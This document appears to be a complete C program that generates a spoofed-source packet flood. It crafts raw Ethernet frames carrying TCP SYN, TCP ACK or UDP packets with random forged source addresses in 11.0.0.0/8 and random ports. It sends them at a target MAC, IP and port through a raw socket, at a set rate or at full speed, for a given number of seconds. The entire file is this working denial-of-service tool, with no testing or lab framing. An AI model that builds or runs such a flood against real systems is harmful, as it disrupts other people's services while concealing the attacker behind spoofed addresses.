/*
 * A flood: frames of one kind, each from another address and port, put on an interface at a rate.
 *
 *     flood INTERFACE syn|ack|udp FRAMES_A_SECOND SECONDS TARGET_MAC TARGET_IP PORT
 *
 * 0 frames a second: as many as go. Prints how many were sent; those that the interface's queue refused count,
 * for a sender on a wire does not learn of them, and does not try again.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { FRAMES = 65536, BATCH = 32, LENGTH = 60 };

static uint8_t frames[FRAMES][LENGTH];

static uint32_t random_word(void)
{
	static uint64_t state = 88172645463325252u;

	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return (uint32_t)(state >> 16);
}

static void put16(uint8_t *at, uint32_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static uint32_t sum_of(const uint8_t *bytes, size_t length)
{
	uint32_t sum = 0;

	for (size_t i = 0; i < length; i += 2)
		sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
	return sum;
}

static uint16_t folded(uint32_t sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* Ethernet, IPv4 from 11.0.0.0/8, and 24 bytes of TCP with an MSS option, or UDP with as much. */
static void make(uint8_t *f, int kind, const uint8_t *mac, const uint8_t *to, unsigned port)
{
	uint8_t *ip = f + 14, *l4 = f + 34;
	uint32_t pseudo;

	memcpy(f, mac, 6);
	memcpy(f + 6, (const uint8_t[6]){ 2, 0, 0, 9, 9, 9 }, 6);
	put16(f + 12, ETHERTYPE_IP);
	ip[0] = 0x45;
	put16(ip + 2, 44);
	put16(ip + 4, random_word());
	ip[8] = 64;
	ip[9] = kind == 'u' ? 17 : 6;
	ip[12] = 11;
	ip[13] = (uint8_t)random_word();
	put16(ip + 14, random_word());
	memcpy(ip + 16, to, 4);
	put16(ip + 10, folded(sum_of(ip, 20)));
	put16(l4, 1024 + random_word() % 60000);
	put16(l4 + 2, port);
	if (kind == 'u') {
		put16(l4 + 4, 24);
		return;
	}
	put16(l4 + 4, random_word());
	put16(l4 + 6, random_word());
	l4[12] = 6 << 4;
	l4[13] = kind == 's' ? 2 : 16;
	put16(l4 + 14, 1024);
	memcpy(l4 + 20, (const uint8_t[]){ 2, 4, 5, 180 }, 4);
	pseudo = sum_of(ip + 12, 8) + 6 + 24;
	put16(l4 + 16, folded(pseudo + sum_of(l4, 24)));
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static unsigned long flood(int s, double rate, double seconds)
{
	static struct mmsghdr messages[BATCH];
	static struct iovec parts[BATCH];
	double start = now(), passed;
	unsigned long sent = 0;

	while ((passed = now() - start) < seconds) {
		int taken;

		if (rate > 0 && (double)sent > passed * rate) {
			usleep(200);
			continue;
		}
		for (unsigned i = 0; i < BATCH; i++) {
			parts[i] = (struct iovec){ frames[(sent + i) % FRAMES], LENGTH };
			messages[i].msg_hdr =
				(struct msghdr){ .msg_iov = &parts[i], .msg_iovlen = 1 };
		}
		/* It stops at the first that is refused, which is said by the next call if others went. */
		taken = sendmmsg(s, messages, BATCH, 0);
		if (taken < 0 && errno != ENOBUFS) {
			perror("flood");
			exit(1);
		}
		sent += taken > 0 ? (unsigned)taken : 1;
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP) };
	int s = socket(AF_PACKET, SOCK_RAW, 0), one = 1;
	unsigned mac[6];
	uint8_t bytes[6], ip[4];

	if (argc != 8 || inet_pton(AF_INET, argv[6], ip) != 1 ||
		sscanf(argv[5], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4,
			mac + 5) != 6) {
		fprintf(stderr, "usage: flood INTERFACE syn|ack|udp RATE SECONDS MAC IP PORT\n");
		return 2;
	}
	for (unsigned i = 0; i < 6; i++)
		bytes[i] = (uint8_t)mac[i];
	for (unsigned i = 0; i < FRAMES; i++)
		make(frames[i], argv[2][0], bytes, ip, (unsigned)atoi(argv[7]));
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	setsockopt(s, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	if (s < 0 || bind(s, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror("flood");
		return 1;
	}
	printf("%lu\n", flood(s, atof(argv[3]), atof(argv[4])));
	return 0;
}
